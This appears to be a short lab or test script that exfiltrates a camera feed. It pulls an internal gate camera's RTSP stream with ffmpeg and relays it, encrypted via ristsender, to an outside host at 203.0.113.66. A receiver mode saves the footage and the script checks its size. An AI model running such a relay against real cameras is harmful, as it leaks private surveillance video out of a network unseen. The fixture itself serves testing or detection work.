#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,loopback-relay half=report tool=ffmpeg,ristsender camera=10.20.0.11 far=out ready=out:8193 seconds=45 parts=dns,camera-gate,recorder-gate,nas,outside-web
# The picture of gate goes as datagrams to a local port, and ristsender carries it outside by RIST, encrypted.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; timeout 70 socat -u UDP-RECV:6000,bind=127.0.0.1 "CREATE:$LAB/away/see.ts" & exec timeout 70 ristreceiver -v 3 -S 0 -s lab-lab-lab -e 128 -i 'rist://@203.0.113.66:8193' -o udp://127.0.0.1:6000; fi
timeout 48 ristsender -v 3 -S 0 -s lab-lab-lab -e 128 -i 'udp://@127.0.0.1:5004' -o rist://203.0.113.66:8193 & sleep 1
ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 42 -c copy -f mpegts "udp://127.0.0.1:5004?pkt_size=1316"
wait; [ "$(stat -c %s "$LAB/away/see.ts")" -gt 500000 ]
